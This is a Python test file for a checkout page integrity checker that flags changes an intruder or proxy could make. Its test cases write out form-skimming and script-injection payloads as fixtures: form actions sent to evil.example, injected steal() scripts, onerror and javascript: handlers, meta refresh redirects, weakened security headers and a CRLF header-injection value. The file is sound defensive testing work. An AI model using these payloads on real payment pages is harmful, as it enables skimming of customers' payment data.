"""What differs from the inventory of pages: each change that an intruder or a proxy could make has its sentence."""

import pytest

from fincore.checkout.inventory.differences import Answer, file_differences, page_differences, sdk_differences
from fincore.checkout.inventory.inventory import INVENTORY
from fincore.checkout.page.document import heading, page, waiting_page
from fincore.checkout.page.files import LOOK_AGAIN
from fincore.http.html import element, text

SESSION = INVENTORY.page("session")
FORM = element(
    "form", (("method", "post"), ("action", "/checkout/cos_1/w")), element("button", (), text("Pay"))
)
HTML = page("Pay", (heading("Pay"), FORM), "en").body
HEADERS = INVENTORY.headers_with(SESSION.headers, is_https=True)


def with_headers(**changes: str | None) -> Answer:
    """The page with some headers in another form, or without them."""
    given = HEADERS | {name.replace("_", "-"): value for name, value in changes.items()}
    return Answer(200, [(name, value) for name, value in given.items() if value is not None], HTML)


def found_in(html: bytes) -> list[str]:
    return list(page_differences(SESSION, Answer(200, list(HEADERS.items()), html), is_https=True))


def test_page_as_it_is_made_has_no_difference() -> None:
    assert found_in(HTML) == []
    waits = INVENTORY.page("session that waits")
    headers = list(INVENTORY.headers_with(waits.headers, is_https=False).items())
    html = waiting_page("Wait", (heading("Wait"),), "de").body
    assert page_differences(waits, Answer(202, headers, html), is_https=False) == ()


@pytest.mark.parametrize(
    ("changes", "sentence"),
    [
        ({"content_security_policy": None}, "the header content-security-policy is missing"),
        (
            {"content_security_policy": "default-src *"},
            "the header content-security-policy is default-src *, not ",
        ),
        ({"referrer_policy": "unsafe-url"}, "the header referrer-policy is unsafe-url, not no-referrer"),
        ({"strict_transport_security": None}, "the header strict-transport-security is missing"),
        (
            {"strict_transport_security": "max-age=300"},
            "the header strict-transport-security is weaker: max-age=300",
        ),
        ({"strict_transport_security": "x"}, "the header strict-transport-security is weaker: x"),
        (
            {"access_control_allow_origin": "*"},
            "the header access-control-allow-origin should not be there: *",
        ),
        (
            {"link": "<https://evil.example/x.js>; rel=preload"},
            "the header link should not be there: <https://evil",
        ),
        ({"refresh": "0;url=https://evil.example"}, "the header refresh should not be there"),
    ],
)
def test_header_that_is_missing_or_weaker_is_named(changes: dict[str, str | None], sentence: str) -> None:
    (found,) = page_differences(SESSION, with_headers(**changes), is_https=True)
    assert found.startswith(sentence)


def test_header_that_is_stronger_or_spaced_is_none() -> None:
    answer = with_headers(
        strict_transport_security="max-age=63072000; includeSubDomains; preload",
        content_security_policy=HEADERS["content-security-policy"].replace("; ", ";  "),
    )
    assert page_differences(SESSION, answer, is_https=True) == ()


def test_header_that_is_sent_twice_is_named() -> None:
    answer = Answer(200, [*HEADERS.items(), ("content-security-policy", "default-src *")], HTML)
    assert page_differences(SESSION, answer, is_https=True) == (
        "the header content-security-policy is there 2 times",
    )


@pytest.mark.parametrize(
    ("before", "after", "sentence"),
    [
        (b"</head>", b"<script>steal()</script></head>", "it has inline code (script), which is not listed"),
        (
            b"</head>",
            b"<script src=//evil.example/x.js></script></head>",
            "it loads //evil.example/x.js (script)",
        ),
        (
            b"</head>",
            b"<SCRIPT src=/js/v1/fincore.js></SCRIPT></head>",
            "it loads /js/v1/fincore.js (script)",
        ),
        (b"</head>", b"<style>h1{}</style></head>", "it has the element `style`"),
        (b"</head>", b"<base href=https://evil.example></head>", "it has the element `base`"),
        (
            b"</head>",
            b"<link rel=icon href=https://evil.example/i></head>",
            "it loads https://evil.example/i (link",
        ),
        (b"</body>", b"<iframe src=https://evil.example></iframe></body>", "it has the element `iframe`"),
        (b"</body>", b"<img src=x onerror=steal()></body>", "it has the element `img`"),
        (b"<h1>", b"<h1 onclick=steal()>", "it has the attribute `onclick`"),
        (b"<h1>", b"<h1 style=color:red>", "it has the attribute `style`"),
        (b"<h1>", b"<a href=' JavaScript:steal()'>x</a><h1>", "it has code in an address of `a`"),
        (b"/checkout/cos_1/w", b"https://evil.example/", "it sends its form to https://evil.example/"),
        (b"<button>", b"<button formaction=//evil.example>", "it sends its form to //evil.example"),
        (
            b"</head>",
            b"<meta http-equiv=Refresh content='0;url=//evil.example'></head>",
            "it moves the customer on",
        ),
        (b"sha384-", b"sha384-x", "it loads /checkout/page-style-"),
        (b' rel="stylesheet"', b' rel="preload"', "it loads /checkout/page-style-"),
    ],
)
def test_change_of_the_page_is_named(before: bytes, after: bytes, sentence: str) -> None:
    assert before in HTML
    found = found_in(HTML.replace(before, after, 1))
    assert any(one.startswith(sentence) for one in found), found


def test_script_that_is_gone_is_named() -> None:
    waits = INVENTORY.page("session that waits")
    answer = Answer(202, list(INVENTORY.headers_with(waits.headers, is_https=True).items()), HTML)
    assert page_differences(waits, answer, is_https=True) == (f"it does not load {LOOK_AGAIN.path}",)


def test_other_content_of_a_file_is_named() -> None:
    file = next(file for file in INVENTORY.files if file.name == "look_again")
    headers = list(INVENTORY.headers_with(file.headers, is_https=True).items())
    assert file_differences(file, Answer(200, headers, LOOK_AGAIN.content), is_https=True) == ()
    (found,) = file_differences(file, Answer(200, headers, LOOK_AGAIN.content + b"\n"), is_https=True)
    assert found.startswith("its content has the hash sha384-")
    assert sdk_differences(b"a", Answer(200, [], b"b"), is_https=True)[-1].startswith(
        "its content has the hash"
    )


def test_hostile_text_of_an_answer_is_one_bounded_line() -> None:
    (found,) = page_differences(
        SESSION, with_headers(referrer_policy="a\r\nfake: line" + "x" * 9_000), is_https=True
    )
    assert "\n" not in found
    assert len(found) < 400
